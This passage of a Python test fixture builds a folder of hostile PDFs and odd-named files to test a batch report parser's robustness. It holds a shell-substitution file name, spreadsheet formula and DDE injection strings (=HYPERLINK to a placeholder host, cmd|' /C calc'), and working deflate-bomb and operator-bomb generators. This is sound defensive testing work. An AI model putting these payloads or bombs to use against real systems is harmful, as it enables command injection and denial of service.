"""A folder of hostile and damaged input files, and what a robust batch must say about each.

:func:`make_hostile_folder` writes 36 files into a folder: valid reports
under names that break naive code (not UTF-8, a newline, a leading dash, shell
syntax, 250 bytes), rotated pages, damaged files (random bytes inserted, a lying
``/Length``, truncation, wrong cross-reference offsets, a page-tree cycle, an
object stream that contains itself), resource bombs (a content stream of
millions of drawing operators, a deflate bomb, an image of 100 000 × 100 000
pixels), content tricks (spreadsheet formulas, lone surrogates and control
characters, JavaScript, encryption) and POSIX special files (a FIFO, dangling
and looping symlinks, a link to ``/dev/zero``, a link to a folder, an unreadable
file). Each comes with an :class:`Expect`: the statuses a robust ``mgi run``
may give it and a keyword its one-line reason must contain.

Valid PDFs are cut from the sample report or built with pikepdf; files whose
structure is broken on purpose are written byte by byte (:func:`_raw_pdf`),
because pikepdf (qpdf) repairs or refuses such structures when it saves, and
because a decompression bomb must never pass through a library that might
inflate it. Everything is deterministic: random bytes come from seeded
generators, pikepdf writes content-derived ``/ID``\\ s, encryption salts come
from a seeded generator. The whole folder takes well under a second and about
9 MB on disk (the deflate bomb is 5 MB of it).

Reading the folder is hostile in itself: the deflate bomb inflates to 5 GiB and
the operator bomb to gigabytes of layout objects, so run it with a memory limit
(``bench/hostile_run.py`` sets ``RLIMIT_DATA``) on a shared machine.

Usage::

    from hostile import make_hostile_folder   # tests/ is on sys.path under pytest
    expectations = make_hostile_folder(folder, sample_pdf)
    for name, expect in expectations.items():   # name: str, or bytes when not UTF-8
        ...

The sample report itself is not copied: callers put it beside the hostile files.
"""

from __future__ import annotations

import contextlib
import io
import os
import random
import stat
import textwrap
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from unittest import mock

import pikepdf
from pikepdf import Array, Dictionary, Name

STATUSES = frozenset({"ok", "partial", "needs_ocr", "failed"})
READABLE = frozenset({"ok", "partial"})
FAILED = frozenset({"failed"})
ANY = frozenset({"ok", "partial", "failed"})

#: Seed of every random generator used here (each file derives its own from it).
SEED = 20240809
#: Bytes of random garbage inserted in the middle of ``garbage-inserted.pdf``.
GARBAGE_BYTES = 50 * 1024
#: The lie told by ``huge-length.pdf``'s content stream.
HUGE_LENGTH = 1_000_000_000
#: Fraction of the sample kept by ``truncated-30.pdf``.
TRUNCATE_AT = 0.30
#: Pages of ``10000-pages.pdf`` (the batch's default ``--max-pages`` is 500).
MANY_PAGES = 10_000
#: Nesting depth of the arrays in ``nested-arrays.pdf``.
NESTING = 100_000
#: One drawing operator of ``operator-bomb.pdf`` and how many times it is repeated.
BOMB_OPERATOR = b"0 0 m 1 1 l S\n"
BOMB_OPERATORS = 75_000 * 134  # ≈ 10 million operators, 140 MB once inflated
#: ``flate-bomb.pdf``: bytes of its content stream once inflated (5 GiB) …
FLATE_BOMB_INFLATED = 5 << 30
#: … made of this many repetitions of one 1 MiB deflate segment.
BOMB_SEGMENT = 1 << 20
#: Declared size of the image in ``huge-image.pdf`` (pixels per side).
HUGE_IMAGE_SIDE = 100_000
#: Password of ``encrypted-user-password.pdf`` (the tests open it with it).
USER_PASSWORD = "secret"
#: The file a shell would create if it ever interpolated ``SHELL_NAME``.
PWNED_MARKER = "pwned-by-name"
#: Name bytes of the file whose name is not valid UTF-8 ("Профиль.pdf" in cp1251).
NON_UTF8_NAME = "Профиль.pdf".encode("cp1251")
NEWLINE_NAME = "line\nbreak.pdf"
DASH_NAME = "-rf.pdf"
SPACES_NAME = "  report with   spaces .pdf"
UPPER_NAME = "UPPER-CASE.PDF"
SHELL_NAME = f"$(touch {PWNED_MARKER}); `touch {PWNED_MARKER}` & 'q\" *.pdf"
LONG_NAME_BYTES = 250


def _long_name() -> str:
    """A 250-byte UTF-8 name (Cyrillic, two bytes a letter) ending in ``.pdf``."""
    stem = "mgi-" + "очень-длинное-имя-отчёта-" * 10
    out = ""
    for ch in stem:
        if len((out + ch + ".pdf").encode()) > LONG_NAME_BYTES:
            break
        out += ch
    out += "x" * (LONG_NAME_BYTES - len((out + ".pdf").encode()))
    return out + ".pdf"


LONG_NAME = _long_name()


@dataclass(frozen=True)
class Expect:
    """What a robust batch must report for one hostile file.

    Attributes:
        statuses: The acceptable ``status`` values (a subset of
            ``ok, partial, needs_ocr, failed``).
        reason: Lowercase keyword the one-line reason must contain whenever the
            status is not ``ok``; alternatives are separated by ``|`` (any one
            will do). None: no keyword is required.
        note: Why the file is hostile and what a good outcome looks like.
    """

    statuses: frozenset[str]
    reason: str | None
    note: str

    def __post_init__(self) -> None:
        if not self.statuses or not self.statuses <= STATUSES:
            raise ValueError(f"statuses must be a non-empty subset of {sorted(STATUSES)}: {self.statuses}")
        if self.reason is not None and self.reason != self.reason.lower():
            raise ValueError(f"reason keywords are lowercase: {self.reason!r}")

    @property
    def keywords(self) -> tuple[str, ...]:
        """The reason's alternatives (empty when no keyword is required)."""
        return tuple(k for k in (self.reason or "").split("|") if k)

    def matches(self, status: str, reason: str | None) -> bool:
        """True when a manifest row (``status``, ``reason``) meets this expectation."""
        if status not in self.statuses:
            return False
        if status == "ok" or not self.keywords:
            return True
        text = (reason or "").lower()
        return any(k in text for k in self.keywords)


# ----------------------------------------------------------------------------- helpers

def _rng(name: str) -> random.Random:
    """A generator seeded by :data:`SEED` and the file's name (adding a file changes no other)."""
    return random.Random(f"{SEED}:{name}")


def _path(dest: Path, name: str | bytes) -> bytes:
    """The file's path as bytes (names need not be UTF-8)."""
    return os.path.join(os.fsencode(dest), os.fsencode(name))


def _unlink(path: bytes) -> None:
    """Remove whatever an earlier run left there (a file, a FIFO or a symlink; never follows links)."""
    if os.path.lexists(path):
        os.unlink(path)


def _write(dest: Path, name: str | bytes, data: bytes) -> None:
    path = _path(dest, name)
    _unlink(path)
    with open(path, "wb") as fh:
        fh.write(data)


def _save(pdf: pikepdf.Pdf, **kw) -> bytes:
    """Serialise with a content-derived ``/ID`` (no clock, no randomness) and a classic xref table."""
    buf = io.BytesIO()
    kw.setdefault("deterministic_id", True)
    pdf.save(buf, object_stream_mode=pikepdf.ObjectStreamMode.disable, **kw)
    return buf.getvalue()


def _extract(sample: pikepdf.Pdf, pages: list[int], title: str) -> pikepdf.Pdf:
    """A new PDF holding some pages of the sample (1-based), titled so that its bytes are unique.

    Unique bytes matter: the batch parses identical files once and lists the
    copies as duplicates, which would hide how each name is handled.
    """
    pdf = pikepdf.new()
    for p in pages:
        pdf.pages.append(sample.pages[p - 1])
    pdf.docinfo[Name.Title] = title
    return pdf


def _pdf_string(text: str) -> bytes:
    """A PDF literal string in WinAnsi (cp1252) with ``\\``, ``(`` and ``)`` escaped."""
    raw = text.encode("cp1252", errors="replace")
    out = bytearray(b"(")
    for b in raw:
        if b in b"\\()":
            out += b"\\" + bytes([b])
        elif b < 0x20 or b > 0x7E:
            out += b"\\%03o" % b
        else:
            out.append(b)
    return bytes(out + b")")


#: A standard-14 font: no embedding needed, WinAnsi codes map to Unicode without ToUnicode.
HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def _text_ops(blocks: list[tuple[str, str]], *, top: float = 780, left: float = 72,
              width_chars: int = 88) -> bytes:
    """Content-stream operators typesetting ``(kind, text)`` blocks down an A4 page.

    ``kind`` is ``title`` (16 pt bold), ``heading`` (12 pt bold) or ``body`` (10 pt,
    wrapped); ``/F1`` must be Helvetica and ``/F2`` Helvetica-Bold. Blocks are
    separated by a blank line, as paragraphs are in the sample report.
    """
    ops = [b"BT", b"%g %g Td" % (left, top)]
    for kind, text in blocks:
        font, size, lead = {"title": (b"/F2", 16, 20), "heading": (b"/F2", 12, 16),
                            "body": (b"/F1", 10, 13)}[kind]
        lines = [text] if kind != "body" else textwrap.wrap(text, width_chars, break_on_hyphens=False)
        ops.append(b"%s %d Tf %d TL" % (font, size, lead))
        for line in lines:
            ops.append(_pdf_string(line) + b" Tj T*")
        ops.append(b"T*")
    ops.append(b"ET")
    return b"\n".join(ops) + b"\n"


def _text_page(pdf: pikepdf.Pdf, content: bytes, fonts: dict[str, pikepdf.Object] | None = None) -> pikepdf.Page:
    """Append an A4 page drawing ``content`` with Helvetica as ``/F1`` and Helvetica-Bold as ``/F2``."""
    page = pdf.add_blank_page(page_size=(595, 842))
    font_dict = Dictionary(
        F1=pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica,
                                        Encoding=Name.WinAnsiEncoding)),
        F2=pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name("/Type1"),
                                        BaseFont=Name("/Helvetica-Bold"), Encoding=Name.WinAnsiEncoding)))
    for key, font in (fonts or {}).items():
        font_dict[Name("/" + key)] = font
    page.obj.Resources = Dictionary(Font=font_dict)
    page.obj.Contents = pdf.make_stream(content)
    return page


def _raw_pdf(objects: list[bytes] | dict[int, bytes], *, version: bytes = b"1.7", root: int = 1,
             xref: bool = True, trailer: bytes = b"") -> bytes:
    """Write a PDF byte by byte: ``objects[i]`` is the body of object ``i + 1``.

    Used where the structure is broken on purpose (pikepdf would repair it) or
    where a stream must never be inflated on the way to disk. With ``xref=False``
    the caller writes its own cross-reference stream (the last object, which
    ``startxref`` points at), and ``objects`` may be a dict of object number →
    body with gaps (objects stored in object streams).
    """
    numbered = objects.items() if isinstance(objects, dict) else enumerate(objects, 1)
    if xref and isinstance(objects, dict):
        raise ValueError("a classic xref table needs objects numbered 1..n")
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for num, body in numbered:
        offsets.append(len(out))
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    if xref:
        start = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
        out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\n" % (len(objects) + 1, root, trailer)
    else:
        start = offsets[-1]
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"", length: int | None = None) -> bytes:
    """A stream object's body; ``length`` may lie about ``len(data)``."""
    return (b"<< /Length %d %s>>\nstream\n" % (len(data) if length is None else length, extra)
            + data + b"\nendstream")


def _one_page_objects(content_ref: int, font_ref: int, extra_resources: bytes = b"") -> list[bytes]:
    """Catalog (1), page tree (2) and one A4 page (3) drawing ``content_ref`` with ``font_ref`` as /F1 and /F2.

    Headings are told from body text by size alone in these hand-written files.
    """
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
        b"/Resources << /Font << /F1 %d 0 R /F2 %d 0 R >> %s>> >>" % (content_ref, font_ref, font_ref,
                                                                      extra_resources),
    ]


def _adler32_combine(adler1: int, adler2: int, len2: int) -> int:
    """Adler-32 of ``a + b`` from those of ``a`` and ``b`` (zlib's ``adler32_combine``)."""
    base = 65521
    rem = len2 % base
    sum1 = adler1 & 0xFFFF
    sum2 = (rem * sum1) % base
    sum1 += (adler2 & 0xFFFF) + base - 1
    sum2 += (adler1 >> 16) + (adler2 >> 16) + base - rem
    return (sum1 % base) | ((sum2 % base) << 16)


def _adler32_repeat(adler: int, length: int, count: int) -> int:
    """Adler-32 of ``count`` copies of a block of ``length`` bytes whose Adler-32 is ``adler``."""
    result, result_len = 1, 0  # Adler-32 of b""
    block, block_len = adler, length
    while count:
        if count & 1:
            result, result_len = _adler32_combine(result, block, block_len), result_len + block_len
        block, block_len = _adler32_combine(block, block, block_len), block_len * 2
        count >>= 1
    return result


def deflate_repeat(prefix: bytes, chunk: bytes, count: int) -> bytes:
    """A zlib stream inflating to ``prefix + chunk * count``, built in time independent of ``count``.

    ``chunk`` is deflated once, ended with a full flush (byte-aligned, no
    back-references across it), and that segment is repeated ``count`` times:
    each copy inflates to ``chunk`` again. The Adler-32 trailer is computed
    arithmetically, so the stream is valid to the last byte and a reader has no
    checksum error to stop at early. A 1 MiB chunk of one repeated byte deflates
    to about 1 KB, so the ratio is close to deflate's maximum of 1 032 : 1.
    """
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = co.compress(prefix) + co.flush(zlib.Z_FULL_FLUSH)
    segment = co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH)
    tail = co.flush(zlib.Z_FINISH)  # an empty final block: nothing to refer back to
    checksum = _adler32_combine(zlib.adler32(prefix), _adler32_repeat(zlib.adler32(chunk), len(chunk), count),
                                len(chunk) * count)
    return b"\x78\xda" + head + segment * count + tail + checksum.to_bytes(4, "big")


# ----------------------------------------------------------------------------- report-like text

BODY_EN = [
    ("heading", "ADHERENCE TO INTERNATIONAL STANDARDS AND FULFILMENT OF MIGRANT RIGHTS"),
    ("heading", "Migration governance: examples of well-developed areas"),
    ("body", "Norland is party to the International Convention on the Protection of the Rights of All "
             "Migrant Workers and Members of Their Families. The Law No. 4 on External Labour Migration "
             "(2006) grants migrant workers equal access to employment services."),
    ("body", "Long-term residents have access to public health care on the same terms as citizens, as set "
             "out in Government Resolution No. 175 of 16 April 2019."),
    ("heading", "Areas with potential for further development"),
    ("body", "There is no national strategy on the integration of migrants. The Law on Refugees (2002) does "
             "not provide for family reunification of persons granted temporary protection."),
]


def _formula_document() -> bytes:
    """A one-page English report whose title and paragraphs begin with spreadsheet formulas.

    Hostile because every extracted string ends up in ``evidence.xlsx`` and CSV
    files: a cell that begins with ``=``, ``+``, ``-`` or ``@`` is a formula to
    Excel and LibreOffice (``=HYPERLINK`` phones home, ``+cmd|' /C calc'!A0`` is
    the classic DDE command launch). The paragraphs cite laws, so the strings
    reach the evidence table's snippets too; the document metadata carries them as well.
    """
    hyperlink = '=HYPERLINK("http://example.invalid","x")'
    dde = "+cmd|' /C calc'!A0"
    blocks = [
        ("title", hyperlink + " Migration Governance Indicators: Norland 2022"),
        ("heading", "ADHERENCE TO INTERNATIONAL STANDARDS AND FULFILMENT OF MIGRANT RIGHTS"),
        ("heading", "Migration governance: examples of well-developed areas"),
        ("body", dde + " The Law No. 4 on External Labour Migration (2006) grants migrant workers equal "
                       "access to employment services and to vocational training."),
        ("body", "@SUM(1+1) Long-term residents have access to public health care on the same terms as "
                 "citizens, as set out in Government Resolution No. 175 of 16 April 2019."),
        ("body", "=1+1 The Law No. 9 \"=HYPERLINK(\"\"http://example.invalid\"\",\"\"y\"\")\" (2010) sets out "
                 "the procedure for registering foreign nationals at their place of residence."),
        ("heading", "Areas with potential for further development"),
        ("body", "-2+3+cmd|' /C calc'!A0 There is no national strategy on the integration of migrants. "
                 "The Law on Refugees (2002) does not provide for family reunification of persons "
                 "granted temporary protection."),
        ("body", "=HYPERLINK(\"http://example.invalid\",\"z\") Border agencies do not share data on "
                 "overstaying visa holders in real time, although Decree No. 191 of 4 May 2021 requires it."),
    ]
    pdf = pikepdf.new()
    _text_page(pdf, _text_ops(blocks))
    pdf.docinfo[Name.Title] = hyperlink
    pdf.docinfo[Name.Author] = "@SUM(1+1)"
    pdf.docinfo[Name.Subject] = dde
    return _save(pdf)


#: ToUnicode targets of ``odd-unicode.pdf``: glyph code → UTF-16BE hex (lone surrogates first).
ODD_UNICODE = {
    0x41: "D800",       # lone high surrogate: not encodable in UTF-8
    0x42: "DC00",       # lone low surrogate
    0x43: "0000",       # NUL: illegal in XML (xlsx) and PostgreSQL text
    0x44: "001B",       # ESC: starts a terminal escape sequence
    0x45: "FFFD",       # replacement character
    0x46: "202E",       # right-to-left override: reverses the text that follows on screen
    0x47: "FEFF",       # zero-width no-break space / BOM
    0x48: "FFFF",       # noncharacter
    0x49: "0007",       # BEL
    0x4A: "2028",       # line separator: str.splitlines() splits on it
    0x4B: "0085",       # next line (NEL): also a line break to str.splitlines()
    0x4C: "DBFFDFFF",   # U+10FFFF, the last code point (a noncharacter)
    0x4D: "D83DDE00",   # an emoji outside the BMP
    0x4E: "000D000A",   # CR LF inside a "one-line" string
}
#: ``odd-unicode.pdf``'s title: a lone surrogate, ESC [31m (red text in a terminal), RLO, NUL.
ODD_TITLE = b"\xfe\xff" + "Odd ".encode("utf-16be") + b"\xd8\x00" + "\x1b[31mred\u202eevil\x00".encode("utf-16be")


def _odd_unicode_document() -> bytes:
    """A report page whose text maps (through ``/ToUnicode``) to lone surrogates and control characters.

    Hostile because extracted text is written as UTF-8 (CSV, JSON, Parquet,
    SQLite), XML (the xlsx workbook forbids control characters) and one-line
    reasons and terminal output: a lone surrogate cannot be encoded, NUL and ESC
    are illegal or dangerous in several of them, U+2028/U+0085/CR LF split
    "one-line" strings. Glyphs ``A``–``N`` of font ``/F3`` carry the odd
    mappings (:data:`ODD_UNICODE`); the surrounding English text is ordinary and
    cites laws, so the odd characters land in paragraphs and evidence snippets.
    """
    cmap = [b"/CIDInit /ProcSet findresource begin", b"12 dict begin", b"begincmap",
            b"/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def",
            b"/CMapName /Adobe-Identity-UCS def", b"/CMapType 2 def",
            b"1 begincodespacerange", b"<00> <FF>", b"endcodespacerange",
            b"%d beginbfchar" % len(ODD_UNICODE)]
    cmap += [b"<%02X> <%s>" % (code, target.encode()) for code, target in ODD_UNICODE.items()]
    cmap += [b"endbfchar", b"endcmap", b"CMapName currentdict /CMap defineresource pop", b"end", b"end"]
    pdf = pikepdf.new()
    odd_font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica,
                                            Encoding=Name.WinAnsiEncoding,
                                            ToUnicode=pdf.make_stream(b"\n".join(cmap) + b"\n")))
    odd = "".join(chr(c) for c in ODD_UNICODE)
    content = _text_ops(BODY_EN[:3])
    content += (b"BT /F1 10 Tf 72 560 Td (Every act listed here, such as the Law No. 4 on External "
                b"Labour Migration \\(2006\\), ) Tj ET\n"
                b"BT /F3 10 Tf 72 547 Td (" + " ".join(odd).encode() + b" " + odd.encode() + b") Tj ET\n"
                b"BT /F1 10 Tf 72 534 Td (is also published in the official gazette within ten days.) Tj ET\n")
    _text_page(pdf, content, fonts={"F3": odd_font})
    pdf.docinfo[Name.Title] = pikepdf.String(ODD_TITLE)
    pdf.docinfo[Name.Author] = pikepdf.String(b"\xfe\xff\xdc\x00\x00\x00")
    return _save(pdf)


def _nested_arrays_document() -> bytes:
    """A text page whose content stream holds an array nested 100 000 levels deep, shown with ``TJ``.

    Hostile because a recursive-descent parser overflows the C or Python stack
    (a segfault or RecursionError), and a parser that copes still builds a
    100 000-deep object that later code may walk recursively (repr, pickle,
    deep copy). The text before and after it is ordinary, so a parser that
    skips the bad operator can still read the page. Deflated, it is tiny.
    """
    pdf = pikepdf.new()
    content = _text_ops(BODY_EN[:4], top=780)
    content += (b"BT /F1 10 Tf 72 500 Td (Text before the nested array.) Tj "
                + b"[" * NESTING + b"]" * NESTING
                + b" TJ 0 -13 Td (Text after the nested array.) Tj ET\n")
    _text_page(pdf, content)
    pdf.docinfo[Name.Title] = "Nested arrays"
    return _save(pdf)


# ----------------------------------------------------------------------------- broken by hand

def _many_pages_document() -> bytes:
    """10 000 blank pages (flat page tree, shared media box): about 1 MB.

    Hostile by size of work, not of bytes: the default ``--max-pages 500`` must
    refuse it before any page is parsed.
    """
    first = 3
    kids = b" ".join(b"%d 0 R" % n for n in range(first, first + MANY_PAGES))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [" + kids + b"] /Count %d /MediaBox [0 0 595 842] /Resources << >> >>"
               % MANY_PAGES]
    objects += [b"<< /Type /Page /Parent 2 0 R >>"] * MANY_PAGES
    return _raw_pdf(objects)


def _page_tree_cycle_document() -> bytes:
    """A page tree whose second child is a ``/Pages`` node whose ``/Kids`` points back at its parent.

    Hostile because a page walker without a visited set recurses forever
    (RecursionError, or a stack overflow in C). Page 1 is a real text page,
    so a walker that breaks the cycle reads it.
    """
    content = _text_ops(BODY_EN)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R "
        b"/Resources << /Font << /F1 6 0 R /F2 6 0 R >> >> >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
        _stream(content),
        HELVETICA,
    ]
    return _raw_pdf(objects)


def _huge_length_document() -> bytes:
    """A text page whose content stream declares ``/Length 1000000000`` (the data is 800 bytes).

    Hostile because a reader that trusts ``/Length`` allocates or reads a
    gigabyte, or reads past the end of the file. Readers are expected to find
    ``endstream`` instead; every other offset in the file is right.
    """
    objects = _one_page_objects(4, 5) + [_stream(_text_ops(BODY_EN), length=HUGE_LENGTH), HELVETICA]
    return _raw_pdf(objects)


def _objstm_self_reference_document() -> bytes:
    """An object stream that contains itself, per the cross-reference stream, and ``/Extends`` itself.

    Hostile because loading object 5 means opening the object stream that holds
    it, which is object 5: a reader without a loop guard recurses forever. The
    page's ``/Resources`` (object 7) lives in that stream. Object 5 is also
    written plainly in the file, so a reader that rebuilds the cross-reference
    table by scanning can recover everything.
    """
    inner = b"<< /Font << /F1 6 0 R /F2 6 0 R >> >>"
    index = b"7 0 "
    objstm = _stream(index + inner, b"/Type /ObjStm /N 1 /First %d /Extends 5 0 R " % len(index))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources 7 0 R >>",
        _stream(_text_ops(BODY_EN)),
        objstm,
        HELVETICA,
    ]
    # Offsets are known only once the objects are laid out: lay them out once with a
    # placeholder xref stream of the right size, then fill it in (its size is fixed by /W).
    entries = 9  # objects 0..8; 7 is compressed, 8 is the xref stream itself

    def xref_stream(offsets: list[int]) -> bytes:
        rows = [(0, 0, 0xFFFF)]
        rows += [(1, offsets[i], 0) for i in range(4)]          # 1-4 plain
        rows += [(2, 5, 0)]                                     # 5 lives in object stream 5: itself
        rows += [(1, offsets[5], 0)]                            # 6 plain
        rows += [(2, 5, 0)]                                     # 7 in object stream 5, index 0
        rows += [(1, offsets[6], 0)]                            # 8: this xref stream
        data = b"".join(t.to_bytes(1, "big") + f.to_bytes(4, "big") + g.to_bytes(2, "big") for t, f, g in rows)
        return _stream(data, b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R " % entries)

    numbered = dict(enumerate(objects, 1))
    draft = _raw_pdf({**numbered, 8: xref_stream([0] * 7)}, version=b"1.5", xref=False)
    offsets = [draft.index(b"\n%d 0 obj\n" % n) + 1 for n in range(1, 9) if n != 7]
    return _raw_pdf({**numbered, 8: xref_stream(offsets)}, version=b"1.5", xref=False)


def _operator_bomb_document() -> bytes:
    """A ~140 KB page whose deflated content stream inflates to 140 MB of line-drawing operators.

    Hostile because each ``0 0 m 1 1 l S`` becomes a path object in a layout
    engine (pdfminer makes an ``LTCurve`` of a kilobyte or so): ten million of
    them is gigabytes of memory and minutes of CPU, from a file smaller than a
    photo. A reader that caps operators, or ignores vector graphics, reads the
    text that comes first.
    """
    prefix = _text_ops(BODY_EN)
    chunk = BOMB_OPERATOR * 75_000
    data = deflate_repeat(prefix, chunk, BOMB_OPERATORS // 75_000)
    objects = _one_page_objects(4, 5) + [_stream(data, b"/Filter /FlateDecode "), HELVETICA]
    return _raw_pdf(objects)


def _flate_bomb_document() -> bytes:
    """A ~5 MB page whose content stream inflates to 5 GiB (a real report text, then spaces).

    Hostile because a reader that inflates a stream into memory before parsing
    it needs 5 GiB at once (and a Python ``bytes`` copy or two more). White space
    is valid content, so the stream is not even malformed: only a cap on
    inflated size saves the reader. The text comes first, so a reader that
    inflates incrementally and stops early can read it.
    """
    data = deflate_repeat(_text_ops(BODY_EN), b" " * BOMB_SEGMENT, FLATE_BOMB_INFLATED // BOMB_SEGMENT)
    objects = _one_page_objects(4, 5) + [_stream(data, b"/Filter /FlateDecode "), HELVETICA]
    return _raw_pdf(objects)


def _huge_image_document() -> bytes:
    """A text page that also draws an image declaring 100 000 × 100 000 RGB pixels (30 GB).

    Hostile because a renderer (OCR, page images for review or debugging)
    allocates the declared size before it finds that the data is 300 KB of
    one grey row. The text is ordinary, so a text-only reader never notices.
    """
    pixels = zlib.compress(b"\x80" * (HUGE_IMAGE_SIDE * 3), 9)
    image = _stream(pixels, b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB "
                            b"/BitsPerComponent 8 /Filter /FlateDecode " % (HUGE_IMAGE_SIDE, HUGE_IMAGE_SIDE))
    content = b"q 400 0 0 200 97 80 cm /Im0 Do Q\n" + _text_ops(BODY_EN)
    objects = _one_page_objects(4, 5, b"/XObject << /Im0 6 0 R >> ") + [_stream(content), HELVETICA, image]
    return _raw_pdf(objects)


def _wrong_xref(data: bytes, rng: random.Random) -> bytes:
    """Replace every in-use offset of the (single, classic) xref table with a wrong one."""
    start = int(data[data.rindex(b"startxref") + 9:].split()[0])
    assert data[start:start + 4] == b"xref", "expected a classic xref table"
    header_end = data.index(b"\n", data.index(b"\n", start) + 1) + 1  # after "xref\n0 N\n"
    count = int(data[start:header_end].split()[2])
    out = bytearray(data)
    for i in range(count):
        pos = header_end + 20 * i
        entry = data[pos:pos + 20]
        if entry[17:18] != b"n":
            continue
        old = int(entry[:10])
        new = old
        while new == old or data.startswith(b"%d 0 obj" % i, new):
            new = rng.randrange(16, len(data))
        out[pos:pos + 10] = b"%010d" % new
    return bytes(out)


def _zip_bytes() -> bytes:
    """A minimal .docx-like ZIP with fixed timestamps (deterministic bytes)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in (("[Content_Types].xml", "<Types/>"),
                           ("word/document.xml", "<w:document><w:body>MGI report</w:body></w:document>")):
            zf.writestr(zipfile.ZipInfo(name, date_time=(2022, 1, 1, 0, 0, 0)), text)
    return buf.getvalue()


@contextlib.contextmanager
def _seeded_secrets(name: str) -> Iterator[None]:
    """Make pypdf's encryption salts, IVs and file key come from a seeded generator."""
    rng = _rng(name)
    with mock.patch("secrets.token_bytes", lambda n=32: rng.randbytes(n)):
        yield


def _encrypt(data: bytes, user: str, owner: str, name: str) -> bytes:
    """AES-256 (R6) encryption with pypdf, deterministic (see :func:`_seeded_secrets`)."""
    from pypdf import PdfReader, PdfWriter

    with _seeded_secrets(name):
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
        writer.encrypt(user_password=user, owner_password=owner, algorithm="AES-256")
        buf = io.BytesIO()
        writer.write(buf)
    return buf.getvalue()


# ----------------------------------------------------------------------------- the folder

def make_hostile_folder(dest: Path, sample: Path) -> dict[str | bytes, Expect]:
    """Write the hostile files into ``dest`` and say what a robust batch must report for each.

    Args:
        dest: Folder to fill (created if needed; files of an earlier run are replaced).
        sample: The sample report (``mgi-kyrgyzstan-2022-ru.pdf``); valid files are cut from it.

    Returns:
        File name → :class:`Expect`. Names are ``str``, except those that are not
        valid UTF-8, which are ``bytes`` (join them with ``os.fsencode(dest)``).
        Special files (FIFO, symlinks) are included only where the OS has them.
    """
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    expect: dict[str | bytes, Expect] = {}
    src = pikepdf.open(sample)
    sample_bytes = Path(sample).read_bytes()

    def extract(pages: list[int], title: str) -> bytes:
        return _save(_extract(src, pages, title))

    def add(name: str | bytes, data: bytes, statuses: frozenset[str], reason: str | None, note: str) -> None:
        _write(dest, name, data)
        expect[name] = Expect(statuses, reason, note)

    try:
        # --- names -------------------------------------------------------------------
        add(NON_UTF8_NAME, extract([2], "non-UTF-8 name"), READABLE, None,
            "Valid 1-page report named 'Профиль.pdf' in cp1251: the name is not UTF-8, so str paths "
            "carry surrogate escapes that cannot be printed, written to JSON/CSV as UTF-8 or stored in "
            "a database without an explicit policy (escape or replace).")
        add(NEWLINE_NAME, extract([3], "newline in name"), READABLE, None,
            "Valid report whose name holds a newline: breaks line-based logs, CSV rows without quoting, "
            "and 'one line per file' summaries.")
        add(DASH_NAME, extract([5], "leading dash"), READABLE, None,
            "Valid report named like an option: any subprocess call (tesseract, qpdf, a shell) that "
            "passes the name without '--' or a './' prefix treats it as '-r -f'.")
        add(SPACES_NAME, extract([8], "spaces in name"), READABLE, None,
            "Valid report whose name has leading, doubled and trailing spaces: breaks word splitting "
            "in shells and naive .strip() of names.")
        add(LONG_NAME, extract([9], "250-byte name"), READABLE, None,
            "Valid report with a 250-byte Cyrillic name: any derived file name (name + '.log', "
            "'.tmp', a suffix) exceeds the 255-byte limit (ENAMETOOLONG).")
        add(UPPER_NAME, extract([10], "upper-case suffix"), READABLE, None,
            "Valid report with an upper-case '.PDF' suffix: a folder scan matching only '*.pdf' "
            "silently skips it.")
        add(SHELL_NAME, extract([11], "shell syntax in name"), READABLE, None,
            f"Valid report whose name is shell syntax ($(…), backticks, &, quotes, *): a name ever "
            f"interpolated into a shell command creates '{PWNED_MARKER}' in the working directory.")

        # --- rotated pages ----------------------------------------------------------------
        for angle, page in ((90, 12), (180, 13), (270, 14)):
            pdf = _extract(src, [page], f"rotated {angle}")
            for p in pdf.pages:
                p.obj.Rotate = angle
            add(f"rotated-{angle}.pdf", _save(pdf), READABLE, None,
                f"A report page with /Rotate {angle}: text coordinates come out rotated, so lines, "
                "columns and reading order must be computed after undoing the rotation; the text must "
                "still be read (a warning about rotation is fine).")

        # --- garbage --------------------------------------------------------------------------
        base = extract([20, 21], "garbage inserted")
        mid = len(base) // 2
        add("garbage-inserted.pdf", base[:mid] + _rng("garbage").randbytes(GARBAGE_BYTES) + base[mid:],
